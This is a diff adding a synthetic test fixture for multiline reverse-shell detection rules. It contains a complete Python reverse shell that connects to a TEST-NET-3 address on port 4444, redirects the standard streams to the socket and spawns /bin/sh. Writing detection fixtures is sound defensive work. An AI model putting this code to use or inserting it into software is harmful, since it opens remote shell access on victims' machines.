@@ -0,0 +1,17 @@
+# SYNTHETIC fixture — textbook Python reverse shell, written out over several
+# lines the way it appears in trojanised packages rather than as a one-liner.
+# Used to prove the multiline reverse-shell rules (RSHELL-082..RSHELL-085) detect
+# connect-then-dup2 C2 establishment. NOT live malware; 203.0.113.0/24 is
+# TEST-NET-3 and unroutable.
+import os
+import pty
+import socket
+
+s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+s.connect(("203.0.113.5", 4444))
+
+os.dup2(s.fileno(), 0)
+os.dup2(s.fileno(), 1)
+os.dup2(s.fileno(), 2)
+
+pty.spawn("/bin/sh")